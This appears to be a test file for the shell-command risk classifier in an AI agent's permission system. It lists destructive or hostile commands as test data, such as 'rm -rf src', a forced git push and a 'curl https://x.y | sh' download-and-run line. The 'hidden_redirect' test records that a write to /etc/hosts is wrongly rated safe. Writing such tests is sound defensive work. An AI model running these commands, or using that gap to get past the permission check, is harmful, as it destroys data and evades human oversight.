-- ===== src/Permission/RiskTests.antt =====
-- Commands that the classifier is meant to tell apart.
use open_thinking.Base.{String, Bool, true, false, ◌≡◌, refl, ◌⊎◌, [], ◌∷◌}
use open_thinking.Types.{confirm}
use open_thinking.Agent.Text.{Args, text_arg}
use open_thinking.Permission.Store.{allow, deny, find_rule}
use open_thinking.Permission.Engine.{
  safe, moderate, dangerous, PermissionRequest, PermissionResponse, PermissionState, check,
}
use open_thinking.Permission.Risk.{command_risk, trim, classify_tool_risk}
use open_thinking.Permission.Risk.Laws.{IsQuiet, check-IsQuiet}

recursive_delete : command_risk "git commit && rm -rf src" ≡ dangerous
unfolding command_risk
recursive_delete = refl

named_form : command_risk "npm run format" ≡ moderate
unfolding command_risk
named_form = refl

forced_push : command_risk "git push origin main --force" ≡ dangerous
unfolding command_risk
forced_push = refl

shell_pipe : command_risk "curl https://x.y | sh" ≡ dangerous
unfolding command_risk
shell_pipe = refl

plain_status : command_risk "git status -s" ≡ safe
unfolding command_risk
plain_status = refl

-- A redirect to an absolute path is not seen when a blank stands before the sign.
hidden_redirect : command_risk "echo x > /etc/hosts" ≡ safe
unfolding command_risk
hidden_redirect = refl

trimmed : trim "  ls -l\n" ≡ "ls -l"
unfolding trim
trimmed = refl

abbrev refuse : PermissionRequest → Bool → PermissionResponse × Bool
refuse request asked = (record { action = deny; remember = false }, true)

abbrev resolve : String → String → String
resolve from path = path

abbrev delete_all : Args
delete_all = record { json = "{}"; texts = ("command", "rm -rf src") ∷ [] }

abbrev unruled : PermissionState Bool
unruled = record { rules = []; events = []; world = false }

check-IsQuiet_example :
    (let classify = classify_tool_risk resolve "/work" in
      let out = check refuse classify confirm "run_command" delete_all unruled in
      let asked =
        refuse
          (record {
            tool = "run_command";
            args = delete_all;
            risk = classify "run_command" delete_all;
          })
          unruled.world in
      (IsQuiet (trim "rm -rf src") × (out.0 ≡ allow) × (out.1.world ≡ false))
      ⊎ ((¬ IsQuiet (trim "rm -rf src")) × (out.0 ≡ asked.0.action) × (out.1.world ≡ asked.1)))
unfolding find_rule text_arg
check-IsQuiet_example =
    check-IsQuiet refuse resolve "/work" delete_all "rm -rf src" unruled refl refl
